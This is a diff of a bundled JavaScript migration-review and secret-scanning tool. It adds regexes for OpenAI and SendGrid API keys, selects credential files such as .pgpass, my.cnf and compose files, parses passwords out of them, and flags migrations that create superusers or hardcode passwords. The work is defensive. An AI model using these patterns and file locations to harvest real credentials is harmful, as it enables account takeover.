+ * OpenAI API keys, the old `sk-…` and the project/service-account/admin forms (`sk-proj-…`): every
+ * one carries `T3BlbkFJ`, base64 of "OpenAI" (secretlint's OpenAI rule knows only the old form).
+ */
+const OPENAI_KEY_RE = /(?<![A-Za-z0-9_-])sk-(?:[a-z]+-)?[A-Za-z0-9_-]{16,}T3BlbkFJ[A-Za-z0-9_-]{16,}(?![A-Za-z0-9_-])/g;
+/** SendGrid API keys: `SG.` + 22 + `.` + 43 base64url characters (secretlint's rule misses keys with `-`). */
+const SENDGRID_KEY_RE = /(?<![A-Za-z0-9_.-])SG\.[A-Za-z0-9_-]{22}\.[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])/g;
 function jwtPayload(token) {
     try {
         const p = JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString('utf8'));
@@ -9354,6 +10056,14 @@ function findTokens(text, ext = '.sql', depth = 0) {
     if (text.includes('AIza')) {
         for (const m of text.matchAll(GOOGLE_API_KEY_RE))
             add({ start: m.index, end: m.index + m[0].length, value: m[0], label: 'Google API key' });
+    }
+    if (text.includes('T3BlbkFJ')) {
+        for (const m of text.matchAll(OPENAI_KEY_RE))
+            add({ start: m.index, end: m.index + m[0].length, value: m[0], label: 'OpenAI API key' });
+    }
+    if (text.includes('SG.')) {
+        for (const m of text.matchAll(SENDGRID_KEY_RE))
+            add({ start: m.index, end: m.index + m[0].length, value: m[0], label: 'SendGrid API key' });
     }
     if (text.includes('whsec_')) {
         for (const m of text.matchAll(STRIPE_WEBHOOK_RE))
@@ -10002,8 +10712,8 @@ function toMarkdown(result) {
     return out.join('\n');
 }
 
-// EXTERNAL MODULE: ./rules/index.ts + 91 modules
-var rules_0 = __webpack_require__(2401);
+// EXTERNAL MODULE: ./rules/index.ts + 92 modules
+var rules_0 = __webpack_require__(8968);
 ;// CONCATENATED MODULE: ./src/report/sarif.ts
 // SARIF 2.1.0 for GitHub code scanning. Messages and snippets are already redacted.
 // What code scanning reads (docs.github.com, "SARIF support for code scanning"): rule `name` (a
@@ -11457,6 +12167,24 @@ const DEFAULT_INCLUDE = [
     '**/appsettings*.json',
     '**/application*.properties',
     '**/application*.{yml,yaml}',
+    // Files the migration tools and database clients read credentials from: sqitch's sqitch.conf
+    // (target URIs), sql-migrate's dbconfig.yml, the Sequelize CLI's config/config.json, libpq's
+    // .pgpass, the MySQL client's my.cnf, and Docker Compose files (the database service's password).
+    '**/sqitch.conf',
+    '**/dbconfig.{yml,yaml}',
+    '**/config/config.json',
+    '**/.pgpass',
+    '**/{.my,my}.cnf',
+    '**/{docker-compose,compose}*.{yml,yaml}',
+    // Migrations in formats this review does not read, named as their runners find them: selected so
+    // that they are reported as not verifiable (fail closed) instead of passing unseen. goose Go
+    // migrations, golang-migrate files of any extension, Flyway script and custom-suffix migrations,
+    // JavaScript/TypeScript migrations (knex, Sequelize, TypeORM) in a migrations folder.
+    '**/[0-9]*_*.go',
+    '**/[0-9]*_*.{up,down}.*',
+    '**/{V,U}[0-9]*__*.*',
+    '**/R__*.*',
+    '**/migrations/**/[0-9]*{_,-}*.{js,cjs,mjs,ts}',
 ];
 /**
  * A package's `__init__.py` under versions/ is not a revision (Alembic's script directory skips
@@ -13284,8 +14012,8 @@ function compoundBodyOf(sql) {
 
 // EXTERNAL MODULE: ./src/python/unicode-names.ts
 var unicode_names = __webpack_require__(6728);
-// EXTERNAL MODULE: ./rules/index.ts + 91 modules
-var rules_0 = __webpack_require__(2401);
+// EXTERNAL MODULE: ./rules/index.ts + 92 modules
+var rules_0 = __webpack_require__(8968);
 // EXTERNAL MODULE: ./src/history/order.ts
 var order = __webpack_require__(7968);
 // EXTERNAL MODULE: ./src/history/index.ts + 3 modules
@@ -13656,7 +14384,7 @@ function expandFile(statements, history) {
         }
         // Statements inside a routine defined here run when it is called, not now: only top-level
         // statements and DO blocks call anything during the migration.
-        if (st.nested && st.nested.kind !== 'do')
+        if (st.nested && st.nested.kind !== 'do' && st.nested.kind !== 'query')
             continue;
         // Keep the caller's own nested statements together with it; the expansion follows them.
         const site = st;
@@ -13698,7 +14426,7 @@ function expandSite(site, caller, history, shadowed, added, seen, depth) {
 /** A body statement, placed at the call: its findings point at the calling statement's line. */
 function placeAt(body, site, name, at, via) {
     const unit = { ...site.unit, pos: () => site.unit.pos(site.start), snippet: site.unit.snippet ?? site.text };
-    return { ...body, unit, start: site.start, end: site.end, scope: site.scope, nested: { kind: 'call', name, at, ...(via ? { via } : {}) } };
+    return { ...body, unit, start: site.start, end: site.end, scope: site.scope, nested: { kind: 'call', name, at, ...(via ? { via } : {}), ...(body.nested?.variables ? { variables: body.nested.variables } : {}) } };
 }
 /** Base names of the tables a statement writes rows of (fires their INSERT/UPDATE/DELETE/TRUNCATE triggers). */
 function writtenTables(st) {
@@ -15112,7 +15840,10 @@ function configFormat(path) {
     const name = (path.split('/').pop() ?? '').toLowerCase();
     if (/^\.env(\.|$)/.test(name) || name === 'ormconfig.env')
         return 'env';
-    if (name.endsWith('.ini'))
+    if (name === '.pgpass')
+        return 'pgpass';
+    // sqitch.conf is git-config syntax (`[target "prod"]`, `uri = …`); my.cnf is ini: both read as ini.
+    if (name.endsWith('.ini') || name.endsWith('.cnf') || name === 'sqitch.conf')
         return 'ini';
     if (name === 'schema.prisma')
         return 'prisma';
@@ -15238,6 +15969,76 @@ function readKeyValueLines(text, ini) {
         // Properties values are not quoted: the quotes are part of the value.
         const leaf = ini ? { key: section && section !== 'DEFAULT' ? `${section}.${key}` : key, ...v } : { key, start: s + m[0].length, end: v.end, value: text.slice(s + m[0].length, v.end) };
         out.push(leaf);
+    });
+    return out;
+}
+/**
+ * Connection strings that become whole only after ConfigParser's `%(name)s` interpolation
+ * (https://docs.python.org/3/library/configparser.html#configparser.BasicInterpolation): each
+ * password found is reported at the key whose value supplied it. `%(here)s` (Alembic's own
+ * default) and unresolved names stay as they are.
+ */
+function interpolatedPasswords(leaves) {
+    const out = [];
+    const sectionOf = (k) => (k.includes('.') ? k.slice(0, k.indexOf('.')) : '');
+    const byKey = new Map(leaves.map((l) => [l.key.toLowerCase(), l]));
+    for (const l of leaves) {
+        if (!l.value.includes('%('))
+            continue;
+        const section = sectionOf(l.key);
+        // The interpolated text, and which referenced leaf each piece of it came from.
+        const pieces = [];
+        let text = '';
+        let last = 0;
+        for (const m of l.value.matchAll(/%\(([^)]+)\)s|%%/g)) {
+            text += l.value.slice(last, m.index);
+            last = m.index + m[0].length;
+            if (m[0] === '%%') {
+                text += '%';
+                continue;
+            }
+            const name = m[1].toLowerCase();
+            const ref = byKey.get(section ? `${section}.${name}` : name) ?? byKey.get(name);
+            if (!ref || ref.value.includes('%(')) {
+                text += m[0];
+                continue;
+            }
+            pieces.push({ from: text.length, to: text.length + ref.value.length, leaf: ref });
+            text += ref.value;
+        }
+        text += l.value.slice(last);
+        if (!pieces.length)
+            continue;
+        for (const h of (0,_analyze_credentials_js__WEBPACK_IMPORTED_MODULE_1__/* .findConnectionStrings */ .mG)(text)) {
+            const p = pieces.find((x) => h.start >= x.from && h.end <= x.to);
+            if (!p?.leaf)
+                continue;
+            const start = p.leaf.start + (h.start - p.from);
+            out.push({ kind: 'connection-string', key: l.key, label: h.form === 'url' ? `${h.label}:// (through %(…)s)` : `${h.label}= (through %(…)s)`, verdict: h.verdict, value: h.value, raw: h.raw, start, end: start + h.raw.length });
+        }
+    }
+    return out;
+}
+/**
+ * libpq's password file: `hostname:port:database:username:password` per line, `\:` and `\\`
+ * escaped, `#` comments (https://www.postgresql.org/docs/current/libpq-pgpass.html).
+ */
+function readPgpass(text) {
+    const out = [];
+    eachLine(text, (s, _e, line) => {
+        if (/^\s*(#|$)/.test(line))
+            return;
+        let field = 0;
+        for (let i = 0; i < line.length; i++) {
+            if (line[i] === '\\')
+                i++;
+            else if (line[i] === ':' && ++field === 4) {
+                const start = s + i + 1;
+                const raw = line.slice(i + 1).replace(/\r$/, '');
+                out.push({ key: 'password', start, end: start + raw.length, value: raw.replace(/\\(.)/g, '$1') });
+                return;
+            }
+        }
     });
     return out;
 }
@@ -15386,6 +16187,9 @@ function extractConfig(ex) {
         case 'ini':
             leaves = readKeyValueLines(text, true);
             break;
+        case 'pgpass':
+            leaves = readPgpass(text);
+            break;
         case 'properties':
             leaves = readKeyValueLines(text, false);
             break;
@@ -15455,6 +16259,16 @@ function extractConfig(ex) {
         if (overlaps(h.start, h.end))
             continue;
         add({ kind: 'connection-string', key: keyAt(h.start), label: h.form === 'url' ? `${h.label}://` : `${h.label}=`, verdict: h.verdict, value: h.value, raw: h.raw, start: h.start, end: h.end });
+    }
+    // 4. ini interpolation, as Python's ConfigParser (BasicInterpolation) reads alembic.ini: a URL
+    // built from other keys (`sqlalchemy.url = postgresql://app:%(db_pw)s@db/app`) holds the value
+    // of the key it names; that key (same section, else [DEFAULT]) is where the password is written.
+    if (format === 'ini') {
+        for (const e of interpolatedPasswords(leaves)) {
+            if (overlaps(e.start, e.end) || entries.some((x) => x.start === e.start))
+                continue;
+            add(e);
+        }
     }
     const local = isLocalDevFile(ex.path) && !example; // example files are warnings already
     for (const e of entries) {
@@ -16248,10 +17062,14 @@ function coreTableName(a, node, scope) {
     return { name: (0,source/* strOf */.x6)((0,source/* runtimeName */.qO)(a.src.brief(node, 50)), at) };
 }
 /** `x.a(1).b(2)` → base x, calls [a(1), b(2)]. */
-function chainOf(node) {
+/**
+ * The method chain of an expression. `resolve` follows a name bound to a chain (`qs = M.objects.all()`
+ * then `qs.delete()`): the chain goes on through the value it holds.
+ */
+function chainOf(node, resolve, depth = 0) {
     const calls = [];
     let cur = node;
-    for (;;) {
+    for (let hops = depth;;) {
         if (cur.nodeType === 'Call' && cur.func?.nodeType === 'Attribute') {
             calls.unshift({ method: cur.func.attr, call: cur });
             cur = cur.func.value;
@@ -16259,6 +17077,16 @@ function chainOf(node) {
         else if (cur.nodeType === 'Attribute' && (cur.attr === 'objects' || cur.attr === 'query')) {
             calls.unshift({ method: cur.attr, call: cur });
             cur = cur.value;
+        }
+        else if (cur.nodeType === 'Name' && resolve && hops++ < 8) {
+            // Only a queryset (`M.objects…`, `session.query(M)…`): a Core table bound to a name
+            // (`t = sa.table(…)`; `t.delete()`) is read by its name as before.
+            const next = resolve(cur);
+            if (!next || next === cur || (next.nodeType !== 'Call' && next.nodeType !== 'Attribute'))
+                break;
+            if (!chainOf(next, resolve, hops).calls.some((c) => c.method === 'objects' || c.method === 'query'))
+                break;
+            cur = next;
         }
         else
             break;
@@ -16281,7 +17109,7 @@ function coreSql(a, node, scope, orm = false) {
         if (ddl !== undefined)
             return ddl;
     }
-    const { base, calls } = chainOf(d.node);
+    const { base, calls } = chainOf(d.node, (n) => a.deref(n, scope).node);
     const at = a.src.start(node);
     let kind;
     let table;
@@ -16319,9 +17147,10 @@ function coreSql(a, node, scope, orm = false) {
     // ORM: session.query(M)….delete() / Model.objects….delete() / .update(...)
     const qIdx = calls.findIndex((c) => c.method === 'query' || c.method === 'objects');
     const last = calls[calls.length - 1];
-    if (!kind && qIdx >= 0 && last && (last.method === 'delete' || last.method === 'update')) {
+    // QuerySet._raw_delete(using): Django's own fast path of delete(), the same DELETE without signals or cascades.
+    if (!kind && qIdx >= 0 && last && (last.method === 'delete' || last.method === '_raw_delete' || last.method === 'update')) {
         const q = calls[qIdx];
-        kind = last.method;
+        kind = last.method === 'update' ? 'update' : 'delete';
         if (q.method === 'query' && q.call.nodeType === 'Call' && q.call.args?.[0])
             table = coreTableName(a, q.call.args[0], scope);
         else if (q.method === 'objects')
@@ -16389,9 +17218,35 @@ function coreSql(a, node, scope, orm = false) {
 function whereSql(a, g, node, scope) {
     if (node) {
         const q = node.nodeType === 'Call' ? (a.qual(node.func, scope) ?? '') : '';
-        if (/(^|\.)(true|literal\(True\))$/.test(q) || (node.nodeType === 'Constant' && node.value === true)) {
+        // sa.true(), True, and sa.literal(True) (a bound constant true: every row).
+        const literalTrue = /(^|\.)literal$/.test(q) && node.args?.[0]?.nodeType === 'Constant' && node.args[0].value === true;
+        if (/(^|\.)(true|literal\(True\))$/.test(q) || literalTrue || (node.nodeType === 'Constant' && node.value === true)) {
             g.kw('true');
             return;
+        }
+        // `sa.literal_column('1') == 1`, `sa.literal(1) == sa.literal(1)`: a comparison of SQL text and
+        // constants renders as the SQL it becomes, so the SQL rules can fold it.
+        const side = (x) => {
+            if (x?.nodeType === 'Constant' && (typeof x.value === 'number' || typeof x.value === 'boolean'))
+                return String(x.value);
+            if (x?.nodeType === 'Constant' && typeof x.value === 'string')
+                return `'${x.value.replace(/'/g, "''")}'`;
+            const xq = x?.nodeType === 'Call' ? (a.qual(x.func, scope) ?? '') : '';
+            const arg = x?.args?.[0];
+            if (/(^|\.)literal_column$/.test(xq) && arg?.nodeType === 'Constant' && typeof arg.value === 'string')
+                return arg.value;
+            if (/(^|\.)literal$/.test(xq))
+                return side(arg);
+            return undefined;
+        };
+        const OPS = { Eq: '=', NotEq: '<>', Lt: '<', LtE: '<=', Gt: '>', GtE: '>=' };
+        if (node.nodeType === 'Compare' && node.ops?.length === 1 && OPS[node.ops[0]?.nodeType ?? node.ops[0]]) {
+            const l = side(node.left);
+            const r = side(node.comparators?.[0]);
+            if (l !== undefined && r !== undefined) {
+                g.kw(`(${l} ${OPS[node.ops[0]?.nodeType ?? node.ops[0]]} ${r})`);
+                return;
+            }
         }
         if (node.nodeType === 'Constant' || /(^|\.)text$/.test(q)) {
             const f = a.fold(node, scope);
@@ -16507,6 +17362,8 @@ function coreDdlCall(a, call, ctx) {
 
 ;// CONCATENATED MODULE: ./src/python/sinks.ts
 
+
+
 const SINK_METHODS = new Set(['execute', 'exec_driver_sql', 'executemany', 'executescript', 'execute_sql', 'raw']);
 function handleSink(a, call, ctx, origin, sql, runsOn) {
     if (!sql) {
@@ -16614,7 +17471,20 @@ function annotatedSqlite(a, fn, name) {
 /** Call handler: ORM writes not passed to execute (`session.query(M).delete()`, `M.objects.all().delete()`). */
 function ormCall(a, call, ctx) {
     const f = call.func;
-    if (f?.nodeType !== 'Attribute' || (f.attr !== 'delete' && f.attr !== 'update'))
+    // Django's schema editor called directly from RunPython (`schema_editor.delete_model(M)`,
+    // `.remove_field(M, field)`): the DDL the operations would run, with no operation to see.
+    if (f?.nodeType === 'Attribute' && (f.attr === 'delete_model' || f.attr === 'remove_field') && call.args?.[0] && a.facts.framework === 'django') {
+        const at = a.src.start(call);
+        const t = coreTableName(a, call.args[0], ctx.scope);
+        const g = new SqlGen(at);
+        if (f.attr === 'delete_model')
+            g.kw('DROP TABLE ').qname(t.name, t.schema);
+        else
+            g.kw('ALTER TABLE ').qname(t.name, t.schema).kw(' DROP COLUMN ').ident((0,source/* strOf */.x6)((0,source/* runtimeName */.qO)(a.src.brief(call.args[1] ?? call, 40)), at));
+        a.emitSql(g.build(), { down: ctx.down, origin: `schema_editor.${f.attr}()`, call, synthetic: true });
+        return;
+    }
+    if (f?.nodeType !== 'Attribute' || (f.attr !== 'delete' && f.attr !== '_raw_delete' && f.attr !== 'update'))
         return;
     const sql = coreSql(a, call, ctx.scope, true);
     if (sql)
@@ -19894,19 +20764,24 @@ function scanAccounts(a) {
                 const secrets = password(n, scope, 2);
                 add(n, scope, `\`${a.src.brief(n, 70)}\` creates a superuser account (every permission, admin site access)${secrets.length ? ' with a hardcoded password' : ''}: accounts belong to operators, not migrations.`, secrets);
             }
-            else if (!QUERIES.test(m)) {
-                const flags = flagsOf(n);
-                if (flags.length) {
-                    const secrets = password(n, scope, m === 'create_user' ? 2 : -1);
-                    const verb = m === 'update' ? 'promotes existing accounts to' : 'creates or promotes an account as';
-                    add(n, scope, `\`${a.src.brief(n, 70)}\` ${verb} ${[...new Set(flags)].join(' + ')}${secrets.length ? ' with a hardcoded password' : ''}: an account gains administrator rights through a migration.`, secrets);
-                }
-            }
             else if (m === 'set_password' || m === 'make_password') {
-                // `user.set_password('…')` next to a promotion: the literal is a credential.
+                // `user.set_password('…')`: the literal is a credential (before the check below, which took
+                // every non-query method and so never reached this one).
                 const f = n.args?.[0] ? a.fold(n.args[0], scope) : undefined;
                 if (f?.ok && f.str.text)
                     add(n, scope, `\`${a.src.brief(n, 40)}\` sets a hardcoded password on an account.`, [f.str.text]);
+            }
+            else if (!QUERIES.test(m)) {
+                const flags = flagsOf(n);
+                const secrets = password(n, scope, m === 'create_user' ? 2 : -1);
+                if (flags.length) {
+                    const verb = m === 'update' ? 'promotes existing accounts to' : 'creates or promotes an account as';
+                    add(n, scope, `\`${a.src.brief(n, 70)}\` ${verb} ${[...new Set(flags)].join(' + ')}${secrets.length ? ' with a hardcoded password' : ''}: an account gains administrator rights through a migration.`, secrets);
+                }
+                else if (m === 'create_user' && secrets.length) {
+                    // A login whose password is in the repository, in every environment the migration runs in.
+                    add(n, scope, `\`${a.src.brief(n, 70)}\` creates an account with a hardcoded password: anyone who reads the repository can log in as it.`, secrets);
+                }
             }
         }
         else if (n.nodeType === 'Call' && n.func?.nodeType === 'Name' && n.func.id !== 'Q' && n.func.id !== 'make_password' && n.func.id !== 'setattr') {
@@ -19933,8 +20808,12 @@ function scanAccounts(a) {
                 }
             }
         }
-        if (n.nodeType === 'Call' && n.func?.nodeType === 'Name' && n.func.id === 'setattr' && FLAGS.test(String(n.args?.[1]?.value ?? '')) && isTrue(n.args?.[2])) {
-            add(n, scope, `\`${a.src.brief(n, 70)}\` promotes an account to ${n.args[1].value}: it gains administrator rights through a migration.`, []);
+        if (n.nodeType === 'Call' && n.func?.nodeType === 'Name' && n.func.id === 'setattr' && isTrue(n.args?.[2])) {
+            // The attribute name folded (`'is_' + 'superuser'`), as Python computes it before setattr runs.
+            const f = n.args?.[1] ? a.fold(n.args[1], scope) : undefined;
+            const attr = f?.ok ? f.str.text : undefined;
+            if (attr && FLAGS.test(attr))
+                add(n, scope, `\`${a.src.brief(n, 70)}\` promotes an account to ${attr}: it gains administrator rights through a migration.`, []);
         }
         for (const c of children(n))
             visit(c, scope);
@@ -20452,10 +21331,27 @@ function extract(file, opts = {}) {
             notes.push({
                 ruleId: 'parse-error',
                 ...at,
-                message: 'File was selected as a migration but its kind is not understood: it could not be verified.',
+                message: `File was selected as a migration but its kind is not understood: it could not be verified.${unreadRunner(file.path)}`,
             });
     }
     return ex;
+}
+/**
+ * Why a migration-named file in another language is a migration all the same (the runners that
+ * execute it), for the "not understood" finding: the review cannot see what it does.
+ */
+function unreadRunner(path) {
+    const name = path.split('/').pop() ?? path;
+    const ext = (/\.([^.]+)$/.exec(name)?.[1] ?? '').toLowerCase();
+    if (/^\d+_.*\.(up|down)\.[^.]+$/i.test(name))
+        return ' golang-migrate runs `<version>_<title>.up|down.<any extension>` files as migrations; its statements are not checked.';
+    if (/^[VUR]\d*(\.\d+)*__/i.test(name) || /^R__/i.test(name))
+        return ` Flyway runs it as a ${ext === 'sql' ? 'SQL' : 'script or custom-suffix'} migration (sqlMigrationSuffixes, script migrations: .sh, .ps1, .py, …); its statements are not checked.`;
+    if (ext === 'go')
+        return ' goose registers Go migrations (`<version>_<name>.go`, goose.AddMigration) and runs them with the SQL ones; its statements are not checked.';
+    if (['js', 'cjs', 'mjs', 'ts'].includes(ext))
+        return ' JavaScript/TypeScript migration tools (knex, Sequelize, TypeORM) run such files; the SQL they issue is not checked.';
+    return '';
 }
 
 
@@ -20487,6 +21383,11 @@ const CONFIG_FILE_PATTERNS = [
     /(^|\/)application[^/]*\.(properties|ya?ml)$/i,
     // Docker Compose files: POSTGRES_PASSWORD, MYSQL_ROOT_PASSWORD, DATABASE_URL of the database services.
     /(^|\/)(docker-)?compose[^/]*\.ya?ml$/i,
+    /(^|\/)sqitch\.conf$/i,
+    /(^|\/)dbconfig\.ya?ml$/i,
+    /(^|\/)config\/config\.json$/i,
+    /(^|\/)\.pgpass$/i,
+    /(^|\/)\.?my\.cnf$/i,
 ];
 function isConfigPath(path) {
     return CONFIG_FILE_PATTERNS.some((re) => re.test(path));
@@ -22960,14 +23861,16 @@ function unwrapExecutableComments(text, dialect) {
 /* harmony export */ });
 /* unused harmony export backslashQuotesToStd */
 /* harmony import */ var _guard_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(5166);
-/* harmony import */ var _extract_position_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(4690);
+/* harmony import */ var _extract_position_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(4690);
 /* harmony import */ var _extract_dialect_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7123);
 /* harmony import */ var _normalize_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(732);
 /* harmony import */ var _split_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(7951);
-/* harmony import */ var _sql_spelling_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(3680);
+/* harmony import */ var _sql_spelling_js__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(3680);
+/* harmony import */ var _sql_sql_strings_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(2567);
 // PostgreSQL: libpg-query (the real Postgres parser, WASM). DO blocks and PL/pgSQL / SQL function
 // bodies are parsed too and their statements analyzed; dynamic EXECUTE becomes a pseudo-statement
 // `{ PLpgSQL_dynamic: … }` that the dynamic-sql rule reports.
+
 
 
 
@@ -23097,7 +24000,7 @@ function parsePgUnitAsSent(unit) {
         topError = e;
     }
     if (tree) {
-        const b2c = (0,_extract_position_js__WEBPACK_IMPORTED_MODULE_4__/* .byteToChar */ .E)(unit.text);
+        const b2c = (0,_extract_position_js__WEBPACK_IMPORTED_MODULE_5__/* .byteToChar */ .E)(unit.text);
         for (const s of tree.stmts ?? []) {
             const bs = s.stmt_location ?? 0;
             const start = (0,_split_js__WEBPACK_IMPORTED_MODULE_3__/* .skipTrivia */ .pU)(unit.text, b2c(bs));
@@ -23222,8 +24125,10 @@ function strVal(arg) {
 function expandBodies(st, out, depth) {
     const kind = st.pg?.DoStmt ? 'do' : st.pg?.CreateFunctionStmt ? 'function' : null;
     if (!kind) {
-        if (depth < MAX_DEPTH && (0,_sql_spelling_js__WEBPACK_IMPORTED_MODULE_5__/* .textMayName */ .Y)(st.text, /schedule/i))
+        if (depth < MAX_DEPTH && (0,_sql_spelling_js__WEBPACK_IMPORTED_MODULE_6__/* .textMayName */ .Y)(st.text, /schedule/i))
             expandCronJobs(st, out, depth);
+        if (depth < MAX_DEPTH && (0,_sql_spelling_js__WEBPACK_IMPORTED_MODULE_6__/* .textMayName */ .Y)(st.text, _sql_sql_strings_js__WEBPACK_IMPORTED_MODULE_4__/* .SQL_STRING_FUNCTIONS_RE */ .d))
+            expandSqlStrings(st, out, depth);
         return;
     }
     const fail = (why) => out.push({ ...makeStatement(st.unit, st.start, st.end, { parsed: false, parseError: why }), nested: { kind } });
@@ -23265,8 +24170,10 @@ function expandBodiesAt(st, out, depth) {
             const items = f.sql_body.List?.items ?? [f.sql_body];
             for (const it of items) {
                 for (const s of it?.List?.items ?? [it]) {
+                    const params = sqlParameters(f);
+                    const variables = params.length ? { variables: { names: params, columnsWin: true } } : {};
                     if (s && typeof s === 'object' && Object.keys(s).length)
-                        out.push({ ...st, pg: s, nested: { kind, name }, text: st.text, lexical: st.lexical });
+                        out.push({ ...st, pg: s, nested: { kind, name, ...variables }, text: st.text, lexical: st.lexical });
                 }
             }
         }
@@ -23279,7 +24186,7 @@ function expandBodiesAt(st, out, depth) {
     // Where the body starts in the unit text: the DefElem location is the literal's first byte.
     let bodyStart = st.start;
     if (st.pgText !== undefined && typeof asElem.location === 'number' && asElem.location >= 0) {
-        const lit = (0,_extract_position_js__WEBPACK_IMPORTED_MODULE_4__/* .byteToChar */ .E)(st.pgText)(asElem.location) + (st.pgOffset ?? 0);
+        const lit = (0,_extract_position_js__WEBPACK_IMPORTED_MODULE_5__/* .byteToChar */ .E)(st.pgText)(asElem.location) + (st.pgOffset ?? 0);
         const m = /^(\$[^$\s]*\$|[Ee]?')/.exec(st.unit.text.slice(lit, lit + 64));
         bodyStart = lit + (m ? m[0].length : 0);
     }
@@ -23293,10 +24200,18 @@ function expandBodiesAt(st, out, depth) {
             out.push({ ...makeStatement(st.unit, st.start, st.end, { parsed: false, parseError: `PL/pgSQL body: ${errorMessage(e)}` }), nested });
             return;
         }
-        const ctx = { st, out, depth, bodyStart, nested, env: constantsOf(tree), datums: datumNames(tree) };
+        const datums = datumNames(tree);
+        // `#variable_conflict use_column`: a column of the same name wins over a variable (see bodyVariable).
+        const names = datums.filter((n) => /^[a-z_][a-z0-9_$]*$/.test(n) && n !== 'found');
+        if (names.length)
+            nested.variables = { names, columnsWin: /#\s*variable_conflict\s+use_column\b/i.test(body) };
+        const ctx = { st, out, depth, bodyStart, nested, env: constantsOf(tree), datums };
         walkPl(tree, ctx, 1);
     }
     else if (language === 'sql') {
+        const params = sqlParameters(node.CreateFunctionStmt);
+        if (params.length)
+            nested.variables = { names: params, columnsWin: true };
         parseNestedSql(body, { st, out, depth, bodyStart, nested }, 1, false);
     }
     // Other languages (plpython3u, C, …) are reported by the execution rules from the statement.
@@ -23362,20 +24277,41 @@ function expandCronJobs(st, out, depth) {
         const sql = constString(c.command);
         if (sql === undefined)
             continue;
-        const nested = { kind: 'cron', name: c.job ?? '(unnamed)' };
-        let bodyStart = st.start;
-        const loc = c.command?.A_Const?.location;
-        if (st.pgText !== undefined && typeof loc === 'number' && loc >= 0) {
-            const lit = (0,_extract_position_js__WEBPACK_IMPORTED_MODULE_4__/* .byteToChar */ .E)(st.pgText)(loc) + (st.pgOffset ?? 0);
-            const m = /^(\$[^$\s]*\$|[Ee]?')/.exec(st.unit.text.slice(lit, lit + 64));
-            bodyStart = lit + (m ? m[0].length : 0);
-        }
-        try {
-            parseNestedSql(sql, { st, out, depth, bodyStart, nested }, 1, false);
-        }
-        catch (e) {
-            out.push({ ...makeStatement(st.unit, st.start, st.end, { parsed: false, parseError: `pg_cron job: ${errorMessage(e)}` }), nested });
-        }
+        parseStringArg(st, out, depth, sql, c.command, { kind: 'cron', name: c.job ?? '(unnamed)' }, 'pg_cron job');
+    }
+}
+/**
+ * SQL in a string argument of a function that runs it (src/sql/dynamic.ts sqlStringCalls:
+ * query_to_xml, ts_stat, crosstab, pg_background_launch, dblink…): a constant string is parsed
+ * and its statements analyzed like a DO body's, at the call. They run when the calling statement
+ * runs: now for a top-level statement or a DO block's ('query'), when the function runs inside a
+ * function body (its nesting is kept). A computed string is the dynamic-sql rule's.
+ */
+function expandSqlStrings(st, out, depth) {
+    if (!st.pg)
+        return;
+    for (const c of (0,_sql_sql_strings_js__WEBPACK_IMPORTED_MODULE_4__/* .sqlStringCalls */ .B)(st.pg)) {
+        const sql = constString(c.arg);
+        if (sql === undefined)
+            continue;
+        const nested = !st.nested || st.nested.kind === 'do' ? { kind: 'query', name: c.fn } : st.nested;
+        parseStringArg(st, out, depth, sql, c.arg, nested, `SQL string run by ${c.fn}()`);
+    }
+}
+/** Parse SQL given as a string constant (`arg`, its node) and add its statements as nested ones, placed at the literal. */
+function parseStringArg(st, out, depth, sql, arg, nested, what) {
+    let bodyStart = st.start;
+    const loc = arg?.A_Const?.location;
+    if (st.pgText !== undefined && typeof loc === 'number' && loc >= 0) {
+        const lit = (0,_extract_position_js__WEBPACK_IMPORTED_MODULE_5__/* .byteToChar */ .E)(st.pgText)(loc) + (st.pgOffset ?? 0);
+        const m = /^(\$[^$\s]*\$|[Ee]?')/.exec(st.unit.text.slice(lit, lit + 64));
+        bodyStart = lit + (m ? m[0].length : 0);
+    }
+    try {
+        parseNestedSql(sql, { st, out, depth, bodyStart, nested }, 1, false);
+    }
+    catch (e) {
+        out.push({ ...makeStatement(st.unit, st.start, st.end, { parsed: false, parseError: `${what}: ${errorMessage(e)}` }), nested });
     }
 }
 /** At most this many expansions of one dynamic statement are analyzed; more is "unknown". */
@@ -23404,6 +24340,13 @@ function constantsOf(tree) {
         });
     }
     return env;
+}
+/** Names of a SQL function's input parameters (OUT and TABLE columns cannot be referred to in its body). */
+function sqlParameters(f) {
+    return (f?.parameters ?? [])
+        .map((p) => p?.FunctionParameter)
+        .filter((p) => p?.name && !['FUNC_PARAM_OUT', 'FUNC_PARAM_TABLE'].includes(p.mode))
+        .map((p) => String(p.name).toLowerCase());
 }
 function datumNames(tree) {
     const f = tree?.plpgsql_funcs?.[0]?.PLpgSQL_function;
@@ -23573,7 +24516,7 @@ function parseNestedSql(sql, ctx, lineno, expression) {
         return;
     }
     const stmts = tree.stmts ?? [];
-    const b2c = (0,_extract_position_js__WEBPACK_IMPORTED_MODULE_4__/* .byteToChar */ .E)(text);
+    const b2c = (0,_extract_position_js__WEBPACK_IMPORTED_MODULE_5__/* .byteToChar */ .E)(text);
     for (const s of stmts) {
         const bs = s.stmt_location ?? 0;
         const at = expression ? 0 : (0,_split_js__WEBPACK_IMPORTED_MODULE_3__/* .skipTrivia */ .pU)(text, b2c(bs));
@@ -24484,7 +25427,7 @@ class PrivilegeTracker {
                     this.need(st, path, onNeed, { kind: 'unverified', privilege: 'META', reason: `psql meta-command ${st.meta.split(/\s/)[0]}: runs in the client, its needs are not derived` });
                 continue;
             }
-            if (st.nested && st.nested.kind !== 'do')
+            if (st.nested && st.nested.kind !== 'do' && st.nested.kind !== 'query')
                 continue;
             if (!st.text.trim())
                 continue;
@@ -26432,6 +27375,8 @@ function safeDecode(s) {
 /* harmony export */   KW: () => (/* binding */ rangeVarName),
 /* harmony export */   MH: () => (/* binding */ alwaysTrue),
 /* harmony export */   MS: () => (/* binding */ alteredTableNames),
+/* harmony export */   Ne: () => (/* binding */ bodyVariable),
+/* harmony export */   Nh: () => (/* binding */ nodesOf),
